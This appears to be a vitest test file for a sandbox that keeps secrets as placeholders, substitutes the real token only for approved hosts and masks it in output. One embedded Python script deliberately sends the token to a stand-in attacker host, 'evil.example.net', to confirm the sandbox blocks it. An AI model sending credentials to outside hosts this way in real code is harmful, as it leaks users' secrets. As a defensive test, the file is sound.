import { afterAll, describe, expect, it } from 'vitest';
import { linesOf, networkFor, prelude, refusalsOf, runIn, Servers } from './network-servers.js';

/** Secrets: a placeholder inside, the value at the servers that may have it, and nowhere else. */

const servers = new Servers();
afterAll(() => servers.end());

describe('secrets', () => {
  const value = 'tok-9f8e7d6c5b4a/+';

  it('reach their hosts and nobody else, and come back as asterisks', async () => {
    const seen: string[] = [];
    const api = await servers.https((request, response) => {
      seen.push(`${request.headers.host?.split(':')[0]} ${request.url} ${request.headers.authorization}`);
      response.setHeader('X-Echo', request.headers.authorization ?? 'none');
      response.end(JSON.stringify({ got: request.headers.authorization, url: request.url }));
    });
    const plainSeen: string[] = [];
    const plain = await servers.http((request, response) => {
      plainSeen.push(request.headers.authorization ?? 'none');
      response.end('ok');
    });
    const result = await runIn(
      {
        network: networkFor(['api.example.com', 'evil.example.net'], [api, plain]),
        secrets: { TOKEN: { value, hosts: ['api.example.com'] } },
      },
      {
        code: `${prelude({ api, plain })}
token = os.environ['TOKEN']
def ask(base, path='/'):
    request = urllib.request.Request(base + path, headers={'Authorization': f'Bearer {token}'})
    with urllib.request.urlopen(request) as response:
        return response.headers['X-Echo'], response.read().decode()
print(token)
echoed, body = ask(f'https://api.example.com:{api}')
print(echoed, body)
print(ask(f'https://api.example.com:{api}', '/path?key=' + token)[1])
client = http.client.HTTPSConnection('api.example.com', api)
import base64
client.request('GET', '/basic', headers={'Authorization': 'Basic ' + base64.b64encode(('user:' + token).encode()).decode()})
print(client.getresponse().read().decode())
ask(f'https://evil.example.net:{api}')
ask(f'http://api.example.com:{plain}')
`,
      },
    );
    const placeholder = result.stdout.split('\n')[0] as string;
    expect(placeholder, result.stderr).toMatch(/^vitrine-secret-TOKEN-[0-9a-f]{32}$/);
    const basic = Buffer.from(`user:${value}`).toString('base64');
    expect(seen).toEqual([
      `api.example.com / Bearer ${value}`,
      `api.example.com /path?key=${encodeURIComponent(value)} Bearer ${value}`,
      `api.example.com /basic Basic ${basic}`,
      `evil.example.net / Bearer ${placeholder}`,
    ]);
    expect(plainSeen).toEqual([`Bearer ${placeholder}`]);
    expect(result).toMatchObject({ exitCode: 0, stderr: '' });
    const everything = JSON.stringify(result);
    for (const form of [value, encodeURIComponent(value), basic, 'tok-9f8e'])
      expect(everything).not.toContain(form);
    const masked = `Bearer ${'*'.repeat(value.length)}`;
    expect(result.stdout).toContain(`Bearer ${placeholder} {"got":"${masked}","url":"/"}`);
    expect(result.stdout).toContain(`{"got":"${masked}","url":"/path?key=**`);
    expect(refusalsOf(result)).toEqual([
      `http https://evil.example.net:${api}/ EACCES 1`,
      `http http://api.example.com:${plain}/ EACCES 1`,
    ]);
  });

  it('are sent in plain text only to a loopback address and port that they name', async () => {
    const seen: (string | undefined)[] = [];
    const port = await servers.http((request, response) => {
      seen.push(request.headers.authorization);
      response.end();
    });
    const printed = await linesOf(
      {
        network: networkFor([], [port]),
        secrets: { TOKEN: { value, hosts: [`127.0.0.1:${port}`] } },
        env: { GREETING: 'hello' },
      },
      `${prelude({ port })}
for host in '127.0.0.1', 'localhost':
    get(urllib.request.Request(f'http://{host}:{port}/', headers={'Authorization': os.environ['TOKEN']}))
print(os.environ['GREETING'], os.environ['TOKEN'][:21])
`,
    );
    expect(printed).toEqual(['hello vitrine-secret-TOKEN-']);
    expect(seen).toEqual([value, value]);
  });
});
